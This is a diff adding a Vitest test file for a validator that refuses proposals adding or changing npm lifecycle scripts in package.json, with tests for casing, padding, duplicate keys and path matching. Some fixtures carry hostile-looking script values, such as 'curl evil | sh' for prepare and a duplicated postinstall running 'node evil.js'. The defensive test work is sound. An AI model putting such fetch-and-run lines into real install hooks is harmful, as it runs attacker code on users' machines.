@@ -1,0 +1,110 @@
+// validate: npm lifecycle scripts a proposal may not add or change.
+import { describe, expect, it } from "vitest";
+import {
+  changedLifecycleScripts,
+  isNodeGypPath,
+  isPackageJsonPath,
+  LIFECYCLE_SCRIPTS,
+} from "../../src/validate/npm-scripts.js";
+
+const pkg = (scripts: Record<string, unknown> | undefined, extra: Record<string, unknown> = {}) =>
+  JSON.stringify({ name: "demo", version: "1.0.0", ...(scripts ? { scripts } : {}), ...extra }, null, 2);
+
+describe("validate: changedLifecycleScripts", () => {
+  it("refuses an added postinstall", () => {
+    expect(
+      changedLifecycleScripts(pkg({ build: "tsc" }), pkg({ build: "tsc", postinstall: "node x" })),
+    ).toEqual(['adds the npm lifecycle script "postinstall"']);
+  });
+
+  it("refuses a changed prepare", () => {
+    expect(changedLifecycleScripts(pkg({ prepare: "husky" }), pkg({ prepare: "curl evil | sh" }))).toEqual([
+      'changes the npm lifecycle script "prepare"',
+    ]);
+  });
+
+  it("refuses every lifecycle script of a new package.json", () => {
+    const problems = changedLifecycleScripts(undefined, pkg({ preinstall: "a", install: "b", test: "c" }));
+    expect(problems).toEqual([
+      'adds the npm lifecycle script "preinstall"',
+      'adds the npm lifecycle script "install"',
+    ]);
+  });
+
+  it("covers the whole family, with pre and post variants", () => {
+    const names = [
+      "preinstall",
+      "install",
+      "postinstall",
+      "preuninstall",
+      "uninstall",
+      "postuninstall",
+      "prepublish",
+      "preprepare",
+      "prepare",
+      "postprepare",
+      "prepack",
+      "postpack",
+      "prepublishOnly",
+      "publish",
+      "postpublish",
+      "preversion",
+      "version",
+      "postversion",
+      "dependencies",
+      "predependencies",
+      "postdependencies",
+    ];
+    for (const name of names) {
+      expect(LIFECYCLE_SCRIPTS.has(name.toLowerCase()), name).toBe(true);
+      expect(changedLifecycleScripts(pkg({}), pkg({ [name]: "x" })), name).toHaveLength(1);
+    }
+  });
+
+  it("refuses a differently-cased or padded lifecycle name", () => {
+    expect(changedLifecycleScripts(pkg({}), pkg({ PostInstall: "x" }))).toHaveLength(1);
+    expect(changedLifecycleScripts(pkg({}), pkg({ " postinstall": "x" }))).toHaveLength(1);
+  });
+
+  it("allows ordinary scripts, other fields, and removing a lifecycle script", () => {
+    expect(changedLifecycleScripts(pkg({ build: "tsc" }), pkg({ build: "tsc -p .", lint: "biome" }))).toEqual(
+      [],
+    );
+    expect(changedLifecycleScripts(pkg({ postinstall: "x" }), pkg({}))).toEqual([]);
+    expect(
+      changedLifecycleScripts(pkg({ postinstall: "x" }), pkg({ postinstall: "x" }, { version: "1.0.1" })),
+    ).toEqual([]);
+    expect(changedLifecycleScripts(undefined, pkg(undefined))).toEqual([]);
+  });
+
+  it("refuses a package.json that is no longer a JSON object", () => {
+    for (const broken of ["{", '{"scripts": {}},', "[]", "null", ""]) {
+      expect(changedLifecycleScripts(pkg({}), broken), broken).toEqual([
+        "is not a valid JSON object after the change",
+      ]);
+    }
+  });
+
+  it("reads the script npm would read when a key is duplicated, and strips a BOM", () => {
+    const duplicated = '{"scripts": {"postinstall": "", "postinstall": "node evil.js"}}';
+    expect(changedLifecycleScripts('{"scripts": {"postinstall": ""}}', duplicated)).toHaveLength(1);
+    expect(changedLifecycleScripts(pkg({}), `\ufeff${pkg({ build: "x" })}`)).toEqual([]);
+  });
+
+  it("counts a previously broken package.json as having no scripts", () => {
+    expect(changedLifecycleScripts("{", pkg({ postinstall: "x" }))).toHaveLength(1);
+  });
+});
+
+describe("validate: isPackageJsonPath / isNodeGypPath", () => {
+  it("matches package.json at any depth and in any case", () => {
+    for (const path of ["package.json", "packages/a/package.json", "Package.JSON", "x/package.json."]) {
+      expect(isPackageJsonPath(path), path).toBe(true);
+    }
+    for (const path of ["package.json5", "src/package.jsonx", "package-lock.json"]) {
+      expect(isPackageJsonPath(path), path).toBe(false);
+    }
+    expect(isNodeGypPath("native/binding.gyp")).toBe(true);
+    expect(isNodeGypPath("native/other.gyp")).toBe(false);
+  });
+});
